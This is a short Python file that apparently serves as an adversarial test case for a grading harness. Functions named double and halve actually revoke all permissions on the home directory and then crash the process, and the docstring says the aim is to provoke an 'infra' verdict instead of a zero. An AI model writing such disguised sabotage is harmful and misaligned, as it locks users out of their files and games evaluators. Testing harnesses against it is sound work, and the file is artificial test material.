"""Close one's own scratch folder, then crash, so that no new process can start in it.

Infra is never a zero. Must not gain: a verdict of infra.
"""

import os


def double(x):
    os.chmod(os.path.expanduser("~"), 0)
    os._exit(1)


def halve(x):
    double(x)
